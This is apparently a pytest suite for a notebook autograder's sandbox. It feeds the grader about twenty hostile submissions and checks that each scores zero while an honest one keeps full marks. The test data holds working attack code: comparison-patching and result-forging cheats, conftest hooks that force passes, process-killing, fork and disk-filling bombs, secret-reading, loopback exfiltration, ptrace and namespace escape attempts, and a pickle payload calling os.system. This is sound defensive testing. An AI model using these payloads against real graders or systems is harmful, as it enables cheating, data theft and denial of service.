"""Hostile submissions: none earns points it did not earn, and an honest one in the same batch keeps full marks.

Every attack is graded in one batch with the honest solution. Each hostile notebook
is the released notebook plus cells with wrong (or no) implementations and the
attack, so any point it gets would be a point stolen. Beyond the score, the tests
check what each attack was after: files it must not read or write, a listener it
must not reach, processes that must not survive, text that must not reach feedback.
"""

import errno
import json
import os
import socket
import threading
import time
import uuid
from pathlib import Path

import pytest

from conftest import grade, with_cells, write

pytestmark = pytest.mark.slow

#: Names the process (and every child it forks) "ag-attack", so the test finds them whatever else runs here.
MARK = "import ctypes\nctypes.CDLL(None).prctl(15, b'ag-attack', 0, 0, 0)\n"
WRONG = "def double(x):\n    return x\n\nclass Counter:\n    def __init__(self):\n        self.total = 0\n    def add(self, k):\n        return self\n"


#: Text that only the hidden checks, the solution notebook and the honest student's notebook contain.
HIDDEN_CHECK_TEXT = "[(1,), (0, 3), (2, 1, 5)]"
SOLUTION_TEXT = "self.total += k"
HONEST_TEXT = "HONEST-" + "SENTINEL"


def attacks(out: str, checks_dir: str, course_root: str, *, secrets: list[str], port: int,
            host_file: str) -> dict[str, list[str]]:
    forged = json.dumps({"score": 4, "max_score": 4, "output": "forged", "tests": [],
                         "extra_data": {"student": "x", "status": "graded", "grade_cells": {}}})
    return {
        "patch_allclose": [WRONG, (
            "import torch, numpy\n"
            "torch.allclose = lambda *a, **k: True\n"
            "torch.equal = lambda *a, **k: True\n"
            "torch.testing.assert_close = lambda *a, **k: None\n"
            "numpy.allclose = lambda *a, **k: True\n")],
        "exit_early": ["import os\ndef double(x):\n    os._exit(0)\n", "import os\nos._exit(0)"],
        "ptrace": [WRONG, (
            "import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "for name, call in (('traceme', lambda: libc.ptrace(0, 0, None, None)),\n"
            "                   ('attach_parent', lambda: libc.ptrace(16, os.getppid(), None, None)),\n"
            "                   ('vm_read_parent', lambda: libc.process_vm_readv(os.getppid(), None, 0, None, 0, 0)),\n"
            "                   ('vm_write_parent', lambda: libc.process_vm_writev(os.getppid(), None, 0, None, 0, 0)),\n"
            "                   ('unshare_user', lambda: libc.unshare(0x10000000)),\n"
            "                   ('unshare_mount', lambda: libc.unshare(0x00020000)),\n"
            "                   ('mount_tmpfs', lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None))):\n"
            "    print('TRY', name, call(), ctypes.get_errno())\n")],
        "forge_results": [WRONG, (
            "import atexit, glob, os\n"
            f"OUT = {out!r}\n"
            "def forge():\n"
            "    for path in glob.glob(os.path.join(OUT, '*.json')) + [os.path.join(OUT, 'forge_results.json')]:\n"
            "        try:\n"
            f"            open(path, 'w').write({forged!r})\n"
            "        except OSError:\n"
            "            pass\n"
            "forge()\n"
            "atexit.register(forge)\n"
            "def double(x):\n"
            "    forge()\n"
            "    raise SystemExit(0)\n")],
        "lying_tensor": [(
            "import torch\n"
            "class Liar(torch.Tensor):\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "    @classmethod\n"
            "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
            "        if func.__name__ in ('allclose', 'equal', 'isclose'):\n"
            "            return True\n"
            "        return super().__torch_function__(func, types, args, kwargs or {})\n"
            "def double(x):\n"
            "    return torch.zeros_like(x).as_subclass(Liar)\n"
            "class Counter:\n"
            "    def __init__(self):\n"
            "        self.total = Liar(torch.tensor(5))\n"
            "    def add(self, k):\n"
            "        return self\n")],
        "conftest": [WRONG, (
            "import os\n"
            "HOOK = 'import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport(item, call):\\n"
            "    outcome = yield\\n    outcome.get_result().outcome = \"passed\"\\n'\n"
            f"for folder in ('.', '/tmp', {checks_dir!r}, {course_root!r}):\n"
            "    try:\n"
            "        open(os.path.join(folder, 'conftest.py'), 'w').write(HOOK)\n"
            "    except OSError:\n"
            "        pass\n")],
        "ignore_signals": [(
            "import signal\n"
            "for s in (signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP):\n"
            "    signal.signal(s, signal.SIG_IGN)\n"
            "def double(x):\n"
            "    while True:\n"
            "        pass\n"
            "class Counter:\n"
            "    def __init__(self):\n"
            "        while True:\n"
            "            pass\n")],
        "memory_bomb": [WRONG, "hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))",
                        "def double(x):\n    return [bytearray(2**30) for _ in range(64)]"],
        "stdout_flood": [WRONG, "import os\nwhile True:\n    print('x' * 10000)\n    os.write(1, b'y' * 10000)"],
        "lone_surrogates": [WRONG, "s = '\\ud800'\nprint(s)\nraise ValueError(s)"],
        "kill_the_grader": [MARK + (
            "import os, signal\n"
            "def kill_everything():\n"
            "    pids = {os.getppid(), 1} | {int(p) for p in os.listdir('/proc') if p.isdigit()}\n"
            "    for pid in pids - {os.getpid()}:\n"
            "        try:\n"
            "            os.kill(pid, signal.SIGKILL)\n"
            "        except OSError:\n"
            "            pass\n"
            "    try:\n"
            "        os.kill(-1, signal.SIGKILL)\n"
            "    except OSError:\n"
            "        pass\n"
            "kill_everything()\n"), WRONG.replace("return x", "kill_everything()\n    return x")],
        "fork_storm": [WRONG, MARK + (
            "import os\n"
            "def storm():\n"
            "    while True:\n"
            "        try:\n"
            "            os.fork()\n"
            "        except OSError:\n"
            "            pass\n"
            "storm()\n")],
        "daemon": [WRONG, MARK + (
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        for _ in range(600):\n"
            "            time.sleep(0.1)\n"
            f"            for path in ({out!r}, {host_file!r}):\n"
            "                try:\n"
            "                    open(os.path.join(path, 'daemon-was-here.json') if os.path.isdir(path) else path, 'w').write('x')\n"
            "                except OSError:\n"
            "                    pass\n"
            "    os._exit(0)\n")],
        "read_secrets": [WRONG, (
            "import glob, os\n"
            f"TARGETS = {secrets!r}\n"
            "found = []\n"
            "for target in TARGETS + [os.path.dirname(t) for t in TARGETS]:\n"
            "    for path in [target] + glob.glob(os.path.join(target, '**', '*'), recursive=True)[:200]:\n"
            "        try:\n"
            "            found.append(open(path, errors='replace').read())\n"
            "        except OSError:\n"
            "            pass\n"
            "loot = '\\n'.join(found)\n"
            "print(loot[:5000])\n"
            "os.makedirs('/tmp/loot', exist_ok=True)\n"
            "open('/tmp/loot/loot.txt', 'w').write(loot)\n"
            "def double(x):\n"
            "    raise ValueError(loot[:3000])\n")],
        "exfiltrate": [WRONG, (
            "import socket\n"
            "def send(data):\n"
            f"    for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):\n"
            "        try:\n"
            "            s = socket.socket(family, socket.SOCK_STREAM)\n"
            "            s.settimeout(0.5)\n"
            f"            s.connect((host, {port}))\n"
            "            s.sendall(data)\n"
            "            s.close()\n"
            "        except OSError as exc:\n"
            "            print('blocked:', exc)\n"
            "        try:\n"
            f"            socket.socket(family, socket.SOCK_DGRAM).sendto(data, (host, {port}))\n"
            "        except OSError as exc:\n"
            "            print('blocked:', exc)\n"
            "send(b'EXFIL notebook')\n"
            "def double(x):\n"
            "    send(b'EXFIL ' + repr(x.tolist()).encode())\n"
            "    return x\n")],
        "write_tmp": [WRONG, (
            "import glob, os\n"
            "HOOK = 'import pytest\\n'\n"
            f"for path in [{host_file!r}, '/tmp/conftest.py'] + [os.path.join(d, 'conftest.py') "
            "for d in glob.glob('/tmp/*') if os.path.isdir(d)]:\n"
            "    try:\n"
            "        open(path, 'w').write(HOOK)\n"
            "    except OSError as exc:\n"
            "        print('refused:', path, exc)\n")],
        "fill_disk": [WRONG, (
            "import os\n"
            "chunk = b'0' * 2**20\n"
            "for folder in ('.', '/tmp', '/dev/shm'):\n"
            "    for i in range(100000):\n"
            "        try:\n"
            "            with open(os.path.join(folder, f'fill{i}'), 'wb') as f:\n"
            "                for _ in range(64):\n"
            "                    f.write(chunk)\n"
            "        except OSError:\n"
            "            break\n")],
        "burn_cpu": [WRONG, MARK + (
            "import os, threading\n"
            "def burn():\n"
            "    while True:\n"
            "        pass\n"
            "for _ in range(8):\n"
            "    threading.Thread(target=burn, daemon=True).start()\n"
            "for _ in range(4):\n"
            "    if os.fork() == 0:\n"
            "        burn()\n")],
        "pickle_payload": [(
            "import os, pickle, torch\n"
            "class Payload:\n"
            "    def __reduce__(self):\n"
            f"        return (os.system, ('touch {host_file}',))\n"
            "def double(x):\n"
            "    return Payload()\n"
            "class Counter:\n"
            "    def __init__(self):\n"
            "        self.total = pickle.dumps(Payload())\n"
            "    def add(self, k):\n"
            "        return [Payload(), {'t': torch.zeros(1), 'p': Payload()}]\n")],
        "leak_hidden_inputs": [(
            "STASH = []\n"
            "def double(x):\n"
            "    if tuple(x.shape) != (3, 4):  # not the public check's input\n"
            "        STASH.append(x.tolist())\n"
            "    Leak = type('LEAK' + str(len(str(x.tolist()))), (Exception,), {})\n"
            "    raise Leak('LEAKED ' + repr(x.tolist()))\n"
            "class Counter:\n"
            "    def __init__(self):\n"
            "        raise ValueError(f'STASHED {len(STASH)}: {STASH!r}')\n")],
    }


class Listener:
    """A TCP and UDP listener on the grader's loopback, recording anything that reaches it."""

    def __init__(self) -> None:
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.received: list[bytes] = []
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.tcp.accept()
                self.received.append(conn.recv(4096))
                conn.close()
            except OSError:
                pass
            try:
                self.received.append(self.udp.recv(4096))
            except OSError:
                pass

    def close(self) -> None:
        self._stop = True
        self._thread.join()
        self.tcp.close()
        self.udp.close()


def attack_processes() -> list[int]:
    """Pids on this machine that an attack started (their name is "ag-attack", inherited on fork)."""
    found = []
    for entry in os.listdir("/proc"):
        try:
            if Path(f"/proc/{entry}/comm").read_text().strip() == "ag-attack":
                found.append(int(entry))
        except (OSError, ValueError):
            continue
    return found


@pytest.fixture(scope="module")
def batch(demo_course, tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    out = root / "out"
    subs = root / "subs"
    subs.mkdir()
    host_file = Path("/tmp") / f"autograder-pwned-{uuid.uuid4().hex}"
    secrets = [str(p) for p in demo_course.checks_dir("demo").glob("test_*.py")]
    secrets += [str(demo_course.solutions_dir("demo") / "demo.ipynb"), str(subs / "honest.ipynb"), str(out)]
    listener = Listener()
    started = time.time()
    release = demo_course.release_dir("demo") / "demo.ipynb"
    try:
        hostile = attacks(str(out), str(demo_course.checks_dir("demo")), str(demo_course.root), secrets=secrets,
                          port=listener.port, host_file=str(host_file))
        for name, cells in hostile.items():
            write(with_cells(release, *cells), subs / f"{name}.ipynb")
        surrogates = json.loads((subs / "lone_surrogates.ipynb").read_text())
        surrogates["cells"].append({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
                                    "source": "# \ud800 a lone surrogate in the notebook itself\nt = 1"})
        (subs / "lone_surrogates.ipynb").write_text(json.dumps(surrogates))  # ASCII-escaped: still valid JSON
        write(with_cells(demo_course.solutions_dir("demo") / "demo.ipynb", f"# {HONEST_TEXT}"), subs / "honest.ipynb")
        results = grade(demo_course, "demo", [subs], out, workers=2, call_seconds=2, cell_seconds=2,
                        check_seconds=10, memory_mb=1024)
    finally:
        listener.close()
    return results, out, listener.received, host_file, started


ATTACKS = ["patch_allclose", "exit_early", "forge_results", "lying_tensor", "conftest", "ignore_signals",
           "memory_bomb", "stdout_flood", "lone_surrogates", "kill_the_grader", "fork_storm", "daemon",
           "read_secrets", "exfiltrate", "write_tmp", "fill_disk", "burn_cpu", "pickle_payload",
           "leak_hidden_inputs", "ptrace"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_submissions_earn_nothing(batch, attack):
    """Does each attack score zero, recorded by the grader and not by the submission?"""
    results, out, *_ = batch
    assert results[attack]["score"] == 0
    on_disk = json.loads((out / f"{attack}.json").read_text())
    assert on_disk["score"] == 0 and on_disk["extra_data"]["student"] == attack


def test_ptrace_other_processes_memory_and_new_namespaces_are_refused(batch):
    """Can student code trace, read or write another process (the zygote, the slot), or make namespaces and
    mounts? The seccomp filter refuses each with EPERM, even where the grader shares the worker's uid or a
    container lets bubblewrap make namespaces; threads and processes still start (the batch graded it)."""
    results, *_ = batch
    printed = "".join(c["output"] for c in results["ptrace"]["extra_data"]["cells"])
    for name in ("traceme", "attach_parent", "vm_read_parent", "vm_write_parent", "unshare_user", "unshare_mount",
                 "mount_tmpfs"):
        assert f"TRY {name} -1 {errno.EPERM}\n" in printed, printed


def test_an_honest_submission_in_the_same_batch_keeps_full_marks(batch):
    """Is the honest notebook graded as if the attackers were not there?"""
    results, out, *_ = batch
    assert results["honest"]["score"] == results["honest"]["max_score"] == 4
    assert json.loads((out / "honest.json").read_text())["score"] == 4
    assert "forged" not in (out / "gradebook.csv").read_text()


def test_no_conftest_reached_the_checks(demo_course, batch):
    """Did the conftest attack leave nothing where the checks are loaded from?"""
    assert not (demo_course.checks_dir("demo") / "conftest.py").exists()
    assert not (demo_course.root / "conftest.py").exists()


def test_lying_tensors_are_refused_as_not_tensors(batch):
    """Is a tensor subclass reported as the wrong type instead of being compared?"""
    output = next(t["output"] for t in batch[0]["lying_tensor"]["tests"]
                  if t["extra_data"]["check"] == "test_double_matches_two_x")
    assert "debería ser un torch.Tensor" in output and "Liar" in output


def test_runaway_code_is_stopped_by_the_limits(batch):
    """Are the signal-ignoring loop and the flood stopped, with output capped?"""
    results, *_ = batch
    spin = results["ignore_signals"]
    assert any("tiempo límite" in t["output"] for t in spin["tests"])
    flood = results["stdout_flood"]["extra_data"]
    assert len(flood["output"]) <= flood["limits"]["output_bytes"]
    assert any(c["status"] == "timeout" for c in flood["cells"])


def test_text_that_is_not_valid_unicode_is_graded_not_crashed(batch):
    """Do lone surrogates in output, errors and the notebook itself end in a normal graded result?"""
    result = batch[0]["lone_surrogates"]
    assert result["extra_data"]["status"] == "graded"
    assert any(c["status"] == "error" and c["error"]["type"] == "ValueError" for c in result["extra_data"]["cells"])


def test_every_attack_in_the_corpus_was_graded(batch):
    """Did each hostile notebook get its own result, so none was skipped or lost?"""
    assert set(ATTACKS) | {"honest"} == set(batch[0])


def test_no_secret_reaches_any_result(batch):
    """Can no submission read the hidden checks, the solutions or another student's notebook into its result?"""
    results, out, *_ = batch
    for student in ATTACKS:
        text = (out / f"{student}.json").read_text()
        for secret in (HIDDEN_CHECK_TEXT, SOLUTION_TEXT, HONEST_TEXT):
            assert secret not in text, f"{student} leaked {secret!r}"


def test_nothing_crossed_the_network(batch):
    """Did nothing reach a listener on the grader's own loopback, over TCP or UDP?"""
    received = batch[2]
    assert received == []
    output = batch[0]["exfiltrate"]["extra_data"]["cells"]
    assert any("blocked" in c["output"] for c in output)


def test_nothing_was_written_outside_the_sandbox(batch):
    """Did no submission create files in the grader's /tmp or the output folder (daemons included)?"""
    _, out, _, host_file, started = batch
    assert not host_file.exists()
    assert not (out / "daemon-was-here.json").exists()
    written = [p for p in Path("/tmp").iterdir() if p.lstat().st_uid >= 61000 and p.lstat().st_mtime >= started]
    assert written == []


def test_no_worker_process_outlives_the_batch(batch):
    """After the batch, is no process the attacks started still running (storms, daemons, burners)?"""
    assert attack_processes() == []


def test_hidden_inputs_do_not_reach_feedback(batch):
    """Can a submission get a hidden check's inputs into feedback (exception text, class names, public checks)?"""
    result = batch[0]["leak_hidden_inputs"]
    hidden = [t for t in result["tests"] if t["visibility"] == "after_due_date"]
    public = [t for t in result["tests"] if t["visibility"] != "after_due_date"]
    assert hidden and public
    for test in hidden:  # only the summary shows, and it names no class of the student's own
        assert "LEAK" not in test["output"] and "STASHED" not in test["output"], test["output"]
        assert "lanzó una excepción" in test["output"]
    # Public checks all run before any hidden one, so what they show never holds a hidden input.
    counter = next(t for t in public if t["extra_data"]["check"] == "test_counter_adds")
    assert "STASHED 0: []" in counter["output"]
    assert not any("STASHED" in t["output"] and "STASHED 0" not in t["output"] for t in result["tests"])


def test_pickles_are_never_loaded(batch):
    """Does an object with a malicious __reduce__ stay in the worker, as an opaque reference or bytes?"""
    host_file = batch[3]
    assert not host_file.exists()
    result = batch[0]["pickle_payload"]
    assert result["score"] == 0 and result["extra_data"]["status"] == "graded"
